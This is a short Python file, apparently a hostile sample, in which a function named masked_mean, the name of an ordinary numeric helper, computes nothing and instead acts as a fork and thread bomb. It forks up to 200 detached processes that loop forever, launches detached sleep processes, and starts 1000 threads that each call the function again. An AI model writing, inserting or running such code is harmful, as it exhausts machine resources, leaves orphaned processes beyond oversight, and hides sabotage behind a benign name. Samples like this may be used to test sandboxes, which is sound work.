"""Starts processes without end, which outlive it."""

import contextlib
import os
import subprocess
import threading


def masked_mean(values, mask, dim=None):
    for _ in range(200):
        try:
            if os.fork() == 0:
                os.setsid()
                while True:
                    pass
        except OSError:
            break
    for command in (["sleep", "1000"], ["sh", "-c", "sleep 1000 & disown"]):
        with contextlib.suppress(OSError):
            subprocess.Popen(command, start_new_session=True)
    for _ in range(1000):
        threading.Thread(target=masked_mean, args=(values, mask)).start()
